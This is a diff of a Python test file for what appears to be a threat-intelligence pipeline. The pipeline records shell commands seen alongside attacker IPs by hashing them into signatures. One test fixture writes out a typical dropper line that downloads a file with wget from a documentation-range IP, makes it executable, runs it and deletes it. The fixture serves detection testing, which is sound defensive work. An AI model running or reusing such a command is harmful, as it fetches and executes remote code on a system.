@@ -7,23 +7,45 @@ import json
 from hypothesis import given
 from hypothesis import strategies as st
 
-from pipeline.company import SAMPLE, lowest
+from pipeline.command import signature_of
+from pipeline.company import COMMAND, COMMANDS, SAMPLE, lowest
 from pipeline.fold import Folds, bring_together, groups_of
+from pipeline.indicator_type import INDICATOR_TYPES
 from pipeline.intake import Intake
 from pipeline.registry import Party
 from pipeline.sight import Group, Sightings, decode_sightings, encode, records
 from pipeline.slices import SLICES
 
 indicators = st.tuples(st.sampled_from(["ip", "domain"]), st.text("abc", min_size=1, max_size=3))
+commands = st.tuples(st.just(COMMAND), st.text("abc", min_size=1, max_size=2))
+companions = indicators | commands
 PARTY = {"s": Party("north", "CZ")}
 
 
-@given(st.lists(st.lists(indicators, max_size=20), max_size=5))
+@given(st.lists(st.lists(companions, max_size=20), max_size=5))
 def test_a_sample_of_samples_is_the_sample_of_all(parts: list[list[tuple[str, str]]]) -> None:
     everything = [each for part in parts for each in part]
     joined = lowest(each for part in parts for each in lowest(part))
     assert joined == lowest(reversed(everything))
-    assert len(joined) == min(SAMPLE, len(set(everything)))
+    typed = {each for each in everything if each[0] == COMMAND}
+    assert [each for each in joined if each[0] == COMMAND] == sorted(typed)[:COMMANDS]
+    others = set(everything) - typed
+    assert len(joined) == min(SAMPLE, min(COMMANDS, len(typed)) + len(others))
+
+
+def test_commands_come_first_among_companions() -> None:
+    """Who looks for them need look no further."""
+    assert COMMAND not in INDICATOR_TYPES
+    assert min(INDICATOR_TYPES) > COMMAND
+
+
+def test_what_came_with_it_does_not_crowd_out_a_command_nor_it_the_others() -> None:
+    words = [("credential", f"{n}") for n in range(100)]
+    typed = [(COMMAND, f"{n:03}") for n in range(100)]
+    assert lowest([*words, typed[7]])[0] == typed[7]
+    found = lowest([*words, *typed])
+    assert found[:COMMANDS] == tuple(typed[:COMMANDS])
+    assert {kind for kind, _ in found[COMMANDS:]} == {"credential"}
 
 
 @given(st.lists(st.lists(indicators, min_size=1, max_size=12), max_size=6))
@@ -91,6 +113,20 @@ def test_each_sighting_has_its_companions() -> None:
         "a.example": {("ip", "8.8.8.8"), ("ip", "9.9.9.9")},
         "b.example": {("ip", "8.8.8.8")},
     }
+
+
+TYPED = "cd /tmp; wget http://198.51.100.7/a; chmod 777 a; sh a; rm -rf a"
+
+
+def test_a_command_is_a_companion_by_its_signature_and_no_more() -> None:
+    for command, wanted in ((TYPED, ((COMMAND, signature_of(TYPED)),)), ("ls", ())):
+        at = intake(company=True)
+        body = {"src_endpoint": {"ip": "8.8.8.8"}, "process": {"cmd_line": command}}
+        base = {"time": 1, "metadata": {"uid": "e"}, "device": {"uid": "s"}}
+        assert not at.read(json.dumps(base | body).encode(), 10)
+        (group,) = [g for each in at.pack(1, 0).values() for one in each for g in one.groups]
+        assert (group.type, group.values) == ("ip", ["8.8.8.8"])
+        assert (*group.companions,) == ((wanted,) if wanted else ((),))
 
 
 def test_who_does_not_ask_has_none() -> None:
